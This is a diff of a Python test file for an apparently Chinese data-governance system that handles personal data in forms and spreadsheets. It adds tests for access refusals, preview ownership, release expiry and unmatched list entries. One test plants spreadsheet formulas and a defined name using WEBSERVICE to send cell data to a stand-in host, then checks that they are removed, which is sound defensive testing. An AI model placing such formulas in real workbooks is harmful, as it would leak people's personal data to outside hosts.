@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 from dataclasses import replace
-from datetime import date
+from datetime import date, timedelta
 from pathlib import Path
 
 import pytest
@@ -14,10 +14,13 @@ from django.conf import LazySettings
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from openpyxl import Workbook, load_workbook
+from openpyxl.workbook.defined_name import DefinedName
 
 from benchmarks import bench_forms, form_templates
 from kuai.flows.demo_forms import LENDING, seed_demo_forms
 from kuai.guard import access
+from kuai.guard.engine.reading import ResolvedSubject
+from kuai.guard.home_delivery import list_home_deliveries
 from kuai.guard.ledger import list_entries_about
 from kuai.guard.queries import find_actor_by_login
 from kuai.guard.types import Actor, Role, SourceRegistration, Zone
@@ -25,7 +28,7 @@ from kuai.kit.clock import local_day, utc_now
 from kuai.kit.errors import DataFault, Refusal
 from kuai.kit.store import Store
 from kuai.registry.queries import record_of
-from kuai.services.forms import actions, queries
+from kuai.services.forms import actions, fillings, queries
 from kuai.services.forms.types import FormWish
 from kuai.sources.form_sheets import read_form
 
@@ -190,6 +193,9 @@ def test_a_form_takes_two_people_and_its_basis(office: Store) -> None:
         actions.register_form(a_wish(fields=("person.id_number",)), by=steward, at=NOW)
     with pytest.raises(Refusal, match="为什么要上门送"):
         actions.register_form(a_wish(fields=("person.deliver_home",)), by=steward, at=NOW)
+    told_apart = a_wish(fields=("person.deliver_home",), home_delivery_because="送卡")
+    with pytest.raises(Refusal, match="逐个写名字"):
+        actions.register_form(told_apart, by=steward, at=NOW)
     with pytest.raises(Refusal, match="用途"):
         actions.register_form(a_wish(purpose="block_statistics"), by=steward, at=NOW)
     with pytest.raises(Refusal, match="数据管理员"):
@@ -286,6 +292,9 @@ def test_given_cells_stay_and_formulas_that_call_out_are_taken_down(
         other = "女" if "男" in one["person.sex"] else "男"
         name = next(iter(one["person.name"]))
         book.active.append([name, number, other, "", '=WEBSERVICE("http://x/"&A2)'])
+    # A number alone, which anybody can make up, names nobody.
+    book.active.append(["", truth_number_of(some), "", "", ""])
+    book.defined_names["x"] = DefinedName("x", attr_text='WEBSERVICE("http://x/")')
     number = actions.register_form(
         a_wish(fields=("person.name", "person.sex", "person.birth_date")),
         by=login("data-steward"),
@@ -302,10 +311,87 @@ def test_given_cells_stay_and_formulas_that_call_out_are_taken_down(
         assert row[3] in (None, *one["person.birth_date"])
         known += row[3] is not None
     assert known >= len(some) // 2
+    assert {back.worksheets[0].cell(len(some) + 2, place).value for place in (1, 3, 4)} == {None}
+    assert not back.defined_names
     assert back.worksheets[0]["E2"].data_type == "s"
     asked = [str(cells[3]) for cells in back["待问清单"].iter_rows(min_row=2, values_only=True)]
     assert any("性别与登记不一致" in text for text in asked)
     assert any("公式" in text for text in asked)
+
+
+def truth_number_of(some: list[tuple[str, dict[str, set[str]]]]) -> str:
+    return some[0][0]
+
+
+def test_who_is_typed_onto_a_list_without_belonging_to_it_is_not_told(
+    office: Store, town: Path
+) -> None:
+    number = seed_demo_forms(at=NOW)
+    truth = bench_forms.read_truth(town)
+    book = Workbook()
+    book.active.append(["姓名", "身份证号", "出生日期", "住址", "联系电话"])
+    others = [
+        (truth.numbers[key], one)
+        for key, one in sorted(truth.persons.items())
+        if one["held"] and "1970" < next(iter(one["person.birth_date"])) < "2000"
+    ][:8]
+    for id_number, one in others:
+        book.active.append([next(iter(one["person.name"])), id_number])
+    _, filled = fill(office, number, saved(book))
+    sheet = load_workbook(io.BytesIO(filled)).worksheets[0]
+    for row in range(2, 2 + len(others)):
+        assert {sheet.cell(row, column).value for column in (3, 4, 5)} == {None}
+    assert sheet.max_row > 2 + len(others)
+
+
+def test_a_preview_is_for_who_made_it_and_a_sheet_goes_out_once(
+    office: Store, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    number = seed_demo_forms(at=NOW)
+    clerk, other = login("subdistrict-clerk"), login("department-clerk")
+
+    def prepared() -> str:
+        return actions.prepare_filling(
+            office, number, a_blank(), file_name="a.xlsx", by=clerk, at=utc_now()
+        )
+
+    sheet = prepared()
+    assert queries.view_filling(office, sheet, by=clerk, on=NOW.date()).sample
+    assert not queries.view_filling(office, sheet, by=other, on=NOW.date()).sample
+    with pytest.raises(Refusal, match="没有看过它的预览"):
+        actions.release_filling(office, sheet, reason=REASON, by=other, at=utc_now())
+
+    # Dropped in another window while it is being written: it stays dropped, and nothing goes out.
+    write = fillings.write_filled
+
+    def dropped_meanwhile(filled: object) -> bytes:
+        actions.drop_filling(office, sheet, by=clerk, at=utc_now())
+        return write(filled)  # type: ignore[arg-type]
+
+    with monkeypatch.context() as patch:
+        patch.setattr(fillings, "write_filled", dropped_meanwhile)
+        with pytest.raises(Refusal, match="已经放行或结束"):
+            actions.release_filling(office, sheet, reason=REASON, by=clerk, at=utc_now())
+    assert queries.view_filling(office, sheet, by=clerk, on=NOW.date()).state == "ended"
+
+    # Five days, or the end of the form, end the right to take the file again.
+    sheets = [prepared() for _ in range(2)]
+    for one in sheets:
+        actions.release_filling(office, one, reason=REASON, by=clerk, at=utc_now())
+        actions.fetch_filled(office, one, by=clerk, at=utc_now())
+    actions.decide_form(number, "withdrawn", reason="不再需要", by=other, at=utc_now())
+    with pytest.raises(Refusal, match="已经撤销"):
+        actions.fetch_filled(office, sheets[0], by=clerk, at=utc_now())
+    with pytest.raises(Refusal):
+        actions.fetch_filled(office, sheets[1], by=clerk, at=utc_now() + timedelta(days=6))
+    ended = queries.list_fillings(number)
+    assert all(one["is_over"] for one in ended)
+
+
+def test_without_a_number_to_compare_nobody_is_said_not_to_be_visited(office: Store) -> None:
+    seed_demo_forms(at=NOW)
+    nobody = ResolvedSubject(mentions=(), area_paths=(), is_child_under_14=False)
+    assert list_home_deliveries({"person:unknown": nobody}, store=office) == {}
 
 
 def test_an_unregistered_form_gets_tens_and_a_letter(office: Store) -> None:
